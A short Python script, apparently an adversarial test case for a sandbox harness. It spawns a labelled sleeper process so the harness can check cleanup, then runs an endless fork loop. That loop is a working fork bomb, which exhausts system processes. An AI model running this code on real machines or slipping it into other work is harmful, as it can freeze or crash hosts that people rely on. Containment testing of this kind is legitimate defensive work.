import os
import sys

# A marked sleeper first, so the harness can prove afterwards that nothing of this program survived.
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "ecco-adversarial-fork-bomb"])
while True:
    try:
        os.fork()
    except OSError:
        pass
